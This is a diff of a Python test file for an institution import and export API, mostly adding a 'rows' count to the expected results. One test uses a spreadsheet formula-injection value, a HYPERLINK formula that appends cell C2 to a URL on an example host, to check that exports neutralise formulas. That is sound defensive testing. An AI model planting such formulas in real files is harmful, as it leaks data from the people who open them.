@@ -122,7 +122,7 @@ async def test_import_creates_then_updates_by_credit_code(http, gql, demo, sessi
     # when
     first = await upload(http, county, content)
     # then
-    assert first == {"data": {"importInstitutions": {"created": 3, "updated": 0, "errors": []}}}
+    assert first == {"data": {"importInstitutions": {"created": 3, "updated": 0, "rows": 3, "errors": []}}}
     async with sessionmaker() as db:
         rows = {r.name: r for r in (await db.execute(sa.select(Institution))).scalars()}
     full = rows["导入2号培训学校"]
@@ -134,7 +134,7 @@ async def test_import_creates_then_updates_by_credit_code(http, gql, demo, sessi
     assert rows["导入3号培训学校"].subject_training_saved and rows["导入3号培训学校"].no_subject_training
     # a re-import of the same file updates rather than duplicates
     again = await upload(http, county, content)
-    assert again == {"data": {"importInstitutions": {"created": 0, "updated": 3, "errors": []}}}
+    assert again == {"data": {"importInstitutions": {"created": 0, "updated": 3, "rows": 3, "errors": []}}}
     listed = await gql("{ institutions { totalCount } }", token=county)
     assert listed["data"]["institutions"]["totalCount"] == 3
 
@@ -238,7 +238,7 @@ async def test_export_is_scoped_filtered_and_imports_back_unchanged(http, gql, d
         versions = dict((await db.execute(sa.select(Institution.credit_code, Institution.version))).all())
     response = await http.get("/exports/institutions.xlsx", headers={"Authorization": f"Bearer {county}"})
     result = await upload(http, county, response.content)
-    assert result == {"data": {"importInstitutions": {"created": 0, "updated": 2, "errors": []}}}
+    assert result == {"data": {"importInstitutions": {"created": 0, "updated": 2, "rows": 2, "errors": []}}}
     async with sessionmaker() as db:
         after = {r.credit_code: {k: v for k, v in r.model_dump().items() if k not in ("updated_at", "version")} for r in (await db.execute(sa.select(Institution))).scalars()}
         versions_after = dict((await db.execute(sa.select(Institution.credit_code, Institution.version))).all())
@@ -293,7 +293,7 @@ async def test_text_that_looks_like_a_formula_is_exported_as_text_and_round_trip
         sheet_xml = zipfile.ZipFile(raw).read("xl/worksheets/sheet1.xml").decode()
     assert "<f>" not in sheet_xml
     result = await upload(http, county, response.content)
-    assert result == {"data": {"importInstitutions": {"created": 0, "updated": 1, "errors": []}}}
+    assert result == {"data": {"importInstitutions": {"created": 0, "updated": 1, "rows": 1, "errors": []}}}
     async with sessionmaker() as db:
         assert (await db.execute(sa.select(Institution.name))).scalar_one() == '=HYPERLINK("http://x.example/"&C2,"点此")'
 
